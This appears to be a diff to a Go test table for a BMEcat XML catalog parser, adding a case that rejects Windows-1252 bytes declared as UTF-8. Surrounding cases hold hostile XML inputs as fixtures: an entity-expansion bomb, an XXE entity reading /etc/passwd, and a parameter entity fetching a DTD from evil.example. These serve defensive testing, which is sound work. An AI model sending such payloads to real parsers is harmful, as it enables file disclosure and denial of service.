@@ -368,6 +368,7 @@ func TestFatal(t *testing.T) {
 		{"entity expansion", `<?xml version="1.0"?><!DOCTYPE BMECAT [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><BMECAT version="1.2">&b;</BMECAT>`, Options{}, catalog.CodeDoctype, 0},
 		{"external entity", `<?xml version="1.0"?><!DOCTYPE BMECAT [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><BMECAT version="1.2">&xxe;</BMECAT>`, Options{}, catalog.CodeDoctype, 0},
 		{"parameter entity", `<!DOCTYPE BMECAT SYSTEM "x.dtd" [<!ENTITY % p SYSTEM "http://evil.example/p.dtd"> %p;]><BMECAT version="1.2"/>`, Options{}, catalog.CodeDoctype, 0},
+		{"Windows-1252 bytes declared as UTF-8", strings.Replace(valid, "Maus optisch", "Maus f\xfcr Gr\xf6\xdfe M", 1), Options{}, catalog.CodeMalformed, 0},
 		{"undeclared entity", strings.Replace(valid, "Maus optisch", "Maus &lol;", 1), Options{}, catalog.CodeMalformed, 0},
 		{"directive inside", strings.Replace(valid, "<HEADER>", "<!ENTITY x 'y'><HEADER>", 1), Options{}, catalog.CodeDoctype, 0},
 		{"wrong root", `<?xml version="1.0"?><Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"/>`, Options{}, catalog.CodeNotBMEcat, 0},
